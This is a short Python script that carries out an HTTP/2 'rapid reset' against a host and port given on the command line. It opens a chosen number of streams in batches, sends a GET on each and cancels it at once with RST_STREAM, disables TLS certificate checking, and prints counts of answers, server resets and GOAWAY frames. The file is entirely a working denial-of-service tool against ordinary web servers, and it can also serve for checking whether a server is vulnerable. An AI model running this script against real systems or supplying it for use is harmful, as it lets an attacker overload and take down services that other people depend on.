#!/usr/bin/env python3
"""HTTP/2 rapid reset: over one TLS connection (ALPN h2) to HOST:PORT, opens N streams, each a
GET of PATH immediately followed by RST_STREAM(CANCEL), in batches within the server's stream
limit, then reads for WAIT seconds and prints how the server answered: "sent=N answered=A
reset_by_server=R goaway=G"."""
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events

host, port, path, n, wait = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=10), server_hostname=host)
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":scheme", "https"), (":authority", host), (":path", path)]
answered = reset = goaway = 0


def pump(timeout):
    global answered, reset, goaway
    sock.settimeout(timeout)
    try:
        data = sock.recv(65536)
    except (socket.timeout, ssl.SSLWantReadError):
        return True
    if not data:
        return False
    for ev in conn.receive_data(data):
        if isinstance(ev, h2.events.ResponseReceived):
            answered += 1
        elif isinstance(ev, h2.events.StreamReset):
            reset += 1
        elif isinstance(ev, h2.events.ConnectionTerminated):
            goaway += 1
    out = conn.data_to_send()
    if out:
        sock.sendall(out)
    return True


sent = 0
alive = True
try:
    while sent < n and alive and not goaway:
        for _ in range(min(50, n - sent)):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
            sent += 1
        sock.sendall(conn.data_to_send())
        alive = pump(0.01)
    end = time.time() + wait
    while alive and time.time() < end:
        alive = pump(0.2)
except (OSError, h2.exceptions.ProtocolError):
    pass
print(f"sent={sent} answered={answered} reset_by_server={reset} goaway={goaway}")
